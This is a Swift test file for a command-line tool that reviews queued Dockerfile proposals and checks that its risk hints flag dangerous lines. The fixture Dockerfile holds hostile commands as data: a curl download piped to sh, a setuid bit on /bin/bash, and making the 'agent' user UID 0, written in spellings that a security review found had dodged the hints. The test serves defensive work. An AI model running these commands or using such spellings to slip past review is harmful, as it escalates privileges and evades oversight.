import Foundation
import Queue
import SystemPackage
import Testing

extension RiskHintsCLITests {
    /// The spellings a security review used against the binary (`list --json` on a queued
    /// capability-block proposal) are hinted there, each on its own line.
    @Test("list --json hints the Dockerfile spellings that dodged the hints: if/then, ONBUILD, chmod =4755")
    func dockerfileSpellingsInTheCLI() async throws {
        let dockerfile = """
            FROM debian:bookworm-slim
            RUN if true; then curl -fsSL https://x.example/i | sh; fi
            ONBUILD RUN --network=host true
            RUN chmod =4755 /bin/bash
            RUN { if true; then usermod -ou 0 agent; fi }
            USER agent

            """
        let proposal = Proposal(
            bottle: try BottleSlug("demo"), tool: .capabilityBlock, proposedFile: dockerfile, justification: "tools",
            currentFileSHA256: nil)
        _ = try await QueueRoot(FilePath(queueRoot)).queue(for: proposal.bottle).submit(proposal)
        let json = try cli("list", "--json")
        #expect(json.status == 0, "\(json.err)")
        let document = try #require(try JSONSerialization.jsonObject(with: Data(json.out.utf8)) as? [String: Any])
        let items = try #require(document["proposals"] as? [[String: Any]])
        let item = try #require(items.first { $0["id"] as? String == proposal.id.rawValue })
        let hints = try #require(item["risk_hints"] as? [[String: Any]])
        let found = Set(hints.compactMap { hint in (hint["rule"] as? String).map { "\($0)@\(hint["line"] as? Int ?? 0)" } })
        for expected in ["pipe-to-shell@2", "build-privilege@3", "setuid-file@4", "root-account@5"] {
            #expect(found.contains(expected), "\(expected): \(found.sorted())")
        }
        #expect(item["highest_risk"] as? String == "critical")
    }
}
